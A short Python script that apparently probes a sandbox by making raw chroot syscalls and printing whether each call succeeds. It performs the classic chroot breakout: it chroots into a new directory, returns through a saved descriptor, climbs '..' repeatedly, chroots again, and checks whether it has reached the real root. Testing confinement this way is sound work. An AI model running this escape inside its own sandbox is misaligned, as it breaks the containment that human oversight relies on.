import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
first = os.uname().machine == "x86_64"  # numbers are those of x86_64, else of aarch64


def attempt(act, number, *arguments):
    answer = libc.syscall(ctypes.c_long(number), *arguments)
    print(f"{act}:", "done" if answer >= 0 else errno.errorcode[ctypes.get_errno()], flush=True)
    return answer


chroot = 161 if first else 51
os.mkdir("cell")
outside = os.open(".", os.O_RDONLY)
attempt("chroot", chroot, b"cell")
attempt("chroot to the root", chroot, b"/")
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
attempt("chroot out", chroot, b".")
print("root:", os.path.samefile(".", "/"))
